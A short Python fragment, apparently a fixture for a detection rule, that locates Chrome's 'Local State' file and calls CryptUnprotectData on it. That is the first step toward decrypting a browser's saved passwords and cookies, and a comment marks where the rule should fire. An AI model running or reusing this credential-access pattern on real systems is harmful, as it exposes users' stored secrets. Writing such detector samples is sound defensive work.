import os, win32crypt

def key(state):
    path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
    return win32crypt.CryptUnprotectData(state(path), None, None, None, 0)  # fires: call
